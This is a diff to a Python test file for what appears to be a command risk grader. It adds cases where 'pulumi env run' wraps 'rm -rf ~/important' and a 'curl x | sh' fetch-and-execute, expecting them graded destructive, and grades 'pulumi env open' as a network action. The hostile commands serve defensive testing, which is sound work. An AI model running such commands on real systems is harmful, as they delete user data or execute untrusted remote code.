@@ -89,6 +89,9 @@ def grade(command: str) -> RiskLevel:
         "actionlint -pyflakes=/tmp/evil",
         "checkov -d . --external-checks-dir /tmp/checks",
         "tflint --config /tmp/x.hcl",
+        # pulumi-env-run(1): "Open the environment with the given name and run a command"
+        "pulumi env run myenv -- rm -rf ~/important",
+        "pulumi env run e -- bash -c 'curl x | sh'",
     ],
 )
 def test_code_from_outside_or_of_the_callers_choosing_is_destructive(command: str) -> None:
@@ -139,6 +142,7 @@ def test_code_from_outside_or_of_the_callers_choosing_is_destructive(command: st
         # uv export locks (and builds) the project first, unless --frozen (uv docs, "uv export")
         ("uv export", RiskLevel.NETWORK),
         ("uv export --frozen", RiskLevel.READ_ONLY),
+        ("pulumi env open myenv", RiskLevel.NETWORK),
     ],
 )
 def test_the_projects_own_build_and_plain_clones_keep_their_grade(command: str, level: RiskLevel) -> None:
